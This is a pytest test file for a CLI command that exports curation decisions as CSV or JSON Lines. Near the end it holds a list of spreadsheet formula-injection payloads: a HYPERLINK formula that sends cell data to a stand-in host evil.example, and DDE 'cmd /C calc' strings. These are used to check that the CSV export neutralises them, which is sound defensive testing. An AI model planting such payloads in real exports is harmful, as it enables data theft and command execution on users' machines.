"""`curator decisions export`: every decision from every front end, as CSV or JSON Lines."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from sqlalchemy import Engine

from curator.cli import cli
from curator.commands.decisions import FIELDS
from curator.config import get_settings
from curator.store.decisions import Actor, decide
from tests.support.factories import add_item

pytestmark = pytest.mark.storage
T0 = datetime(2024, 6, 3, 9, tzinfo=UTC)


@pytest.fixture
def export(engine: Engine, db_url: str, monkeypatch: pytest.MonkeyPatch) -> Any:
    monkeypatch.setenv("CURATOR_DATABASE_URL", db_url)
    get_settings.cache_clear()

    def _export(*args: str) -> str:
        result = CliRunner().invoke(cli, ["decisions", "export", *args])
        assert result.exit_code == 0, result.output
        return result.output

    return _export


def history(engine: Engine) -> tuple[int, int]:
    a = add_item(engine, title="Prisons report")
    b = add_item(engine, title='Care, "quoted"\nand multi-line')
    alice = Actor("U1", "alice", "slack")
    decide(engine, a, "accept", alice, sector="criminal_justice", category="reports", now=T0)
    decide(engine, a, "edit", alice, edits={"summary": "New.", "key_findings": ["x", "y"]}, now=T0)
    decide(engine, b, "reject", Actor("maria", "maria", "cli"), now=T0)
    decide(engine, b, "undo", Actor("maria", "maria", "cli"), now=T0)
    return a, b


def test_jsonl(engine: Engine, export: Any) -> None:
    a, b = history(engine)
    rows = [json.loads(line) for line in export("--format", "jsonl").splitlines()]
    assert [(r["item_id"], r["action"], r["user_id"], r["via"]) for r in rows] == [
        (a, "accept", "U1", "slack"),
        (a, "edit", "U1", "slack"),
        (b, "reject", "maria", "cli"),
        (b, "undo", "maria", "cli"),
    ]
    first = rows[0]
    assert list(first) == list(FIELDS)
    assert (first["sector"], first["category"], first["edition"]) == (
        "criminal_justice",
        "reports",
        "2024-06",
    )
    assert first["user_name"] == "alice" and first["created_at"].startswith("2024-06-03T09:00")
    assert first["previous_state"]["status"] == "queued"
    assert rows[1]["edits"] == {"summary": "New.", "key_findings": ["x", "y"]}
    assert rows[3]["previous_state"]["status"] == "rejected"


def test_csv_to_a_file_round_trips(engine: Engine, export: Any, tmp_path: Path) -> None:
    history(engine)
    out = tmp_path / "audit.csv"
    export("--out", str(out))
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) == 4 and list(rows[0]) == list(FIELDS)
    assert rows[2]["item_title"] == 'Care, "quoted"\nand multi-line'
    assert json.loads(rows[1]["edits"])["key_findings"] == ["x", "y"]
    assert json.loads(rows[0]["previous_state"])["status"] == "queued"


def test_empty_export_has_a_header(export: Any) -> None:
    assert export().strip() == ",".join(FIELDS)
    assert export("--format", "jsonl") == ""


def test_unwritable_out_is_a_clear_error(engine: Engine, export: Any, tmp_path: Path) -> None:
    result = CliRunner().invoke(
        cli, ["decisions", "export", "--out", str(tmp_path / "missing" / "audit.csv")]
    )
    assert result.exit_code == 1
    assert "cannot write" in result.output and "folder exists" in result.output


#: Cell starts that a spreadsheet reads as a formula (OWASP's CSV injection list).
FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_that_would_run_as_formulas_are_neutralised_and_jsonl_stays_exact(
    engine: Engine, export: Any
) -> None:
    for i, text in enumerate(FORMULAS):
        item = add_item(engine, title=text, publisher=text, url=f"https://x.example/{i}")
        decide(
            engine, item, "accept", Actor("U1", text, "slack"), sector="criminal_justice", now=T0
        )
    rows = list(csv.DictReader(io.StringIO(export("--format", "csv"))))
    assert [r["item_title"] for r in rows] == ["'" + t for t in FORMULAS]
    assert [r["publisher"] for r in rows] == ["'" + t for t in FORMULAS]
    assert [r["user_name"] for r in rows] == ["'" + t for t in FORMULAS]
    assert rows[0]["decision_id"].isdigit() and rows[0]["action"] == "accept"
    assert json.loads(rows[0]["previous_state"])["status"] == "queued"  # JSON cells untouched
    exact = [json.loads(line) for line in export("--format", "jsonl").splitlines()]
    assert [r["item_title"] for r in exact] == FORMULAS
    assert [r["user_name"] for r in exact] == FORMULAS


def test_csv_leaves_ordinary_cells_alone(engine: Engine, export: Any) -> None:
    item = add_item(engine, title="Prisons: a 10-year plan = better?", publisher="HMPPS")
    decide(
        engine, item, "accept", Actor("U1", "o'brien", "slack"), sector="criminal_justice", now=T0
    )
    row = next(csv.DictReader(io.StringIO(export())))
    assert (row["item_title"], row["publisher"], row["user_name"]) == (
        "Prisons: a 10-year plan = better?",
        "HMPPS",
        "o'brien",
    )
